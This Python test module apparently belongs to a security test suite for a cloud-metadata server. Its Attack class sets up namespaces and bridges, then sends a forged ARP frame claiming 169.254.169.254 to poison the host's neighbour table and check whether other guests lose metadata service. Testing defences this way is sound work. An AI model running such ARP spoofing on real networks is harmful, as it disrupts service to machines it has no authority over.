"""A guest of a bridge that is not served tells the host that it has 169.254.169.254, before the first bridge is served.

With `--intercept auto` the server looks whether the host is a cloud's instance: then it redirects instead of adding the address, which a bridge
without an IPv4 address of its own does not allow. Gained: neighbours on such a bridge that are not served at all. In the way: an entry of the
neighbour table counts only where the host itself would send to the address, on a link without guests. The counter-proof gives the host a
default route by the forger's bridge, where nobody is known to be a guest.
"""

import time

import attack
import space
import wire
from attack import Outcome
from field import METADATA, ask
from host import Host

OUTSIDER = "52:54:00:00:09:09"


class Attack(attack.Attack):
    """The outsider, on a bridge of its own."""

    hosts = ("auto",)
    families = (4,)
    has_victims = False
    proofs = (("auto", 4),)

    def prepare(self, host: Host) -> None:
        """A bridge that nobody serves, and br1 without an IPv4 address, as a bridge that only connects guests and a LAN."""
        host.server.end()
        host.server.release()
        space.ip("""netns add outsider
            link add br9 type bridge forward_delay 0
            link set br9 up
            address add 192.0.9.1/24 dev br9
            link add tap-9 type veth peer name eth0 netns outsider
            link set tap-9 master br9 up
            address del 192.0.3.1/24 dev br1""")
        space.ip(f"link set eth0 address {OUTSIDER}\nlink set eth0 up\naddress add 192.0.9.9/24 dev eth0", "outsider")
        # The neighbour's gateway is gone with the address.
        space.ip(f"route add {METADATA[4]} dev eth0", host.neighbour.name)

    def during(self, host: Host, outcome: Outcome) -> None:
        """One frame, and then the server's start."""
        link = wire.mac(OUTSIDER)
        with space.inside("outsider"):
            wire.Wire().send(wire.arp(wire.BROADCAST, link, 1, (link, METADATA[4]), (bytes(6), "192.0.9.1")))
        time.sleep(0.5)
        outcome.host_report["entry"] = space.call("ip", "neighbour", "show", METADATA[4])
        host.server.spawn()
        time.sleep(4)
        outcome.host_report["said"] = [line for line in host.server.output.splitlines() if " error " in line and "br1" in line]
        with space.inside(host.neighbour.name):
            outcome.host_report["status"] = ask(METADATA[4], seconds=4)[0]

    def gained(self, outcome: Outcome) -> str | None:
        """A neighbour without metadata."""
        found = outcome.host_report
        if OUTSIDER not in found["entry"]:
            raise space.Failure(f"the host believes nothing: the attack does not work: {found['entry']!r}")
        return None if found["status"] == 200 else f"the neighbour on br1 got status {found['status']}: {found['said']}"

    def weaken(self, host: Host) -> None:
        """Has the host send to the address by the forger's bridge."""
        space.ip("route add default dev br9")

    def restore(self, host: Host) -> None:
        """The bridges of before, and a server that is told nothing."""
        host.server.end()
        host.server.release()
        space.ip("link delete br9\nlink delete tap-9\nnetns delete outsider\naddress add 192.0.3.1/24 dev br1")
        space.ip(f"route del {METADATA[4]} dev eth0", host.neighbour.name)
        space.ip("neighbour flush all")
        host.server.start(*host.server.options)
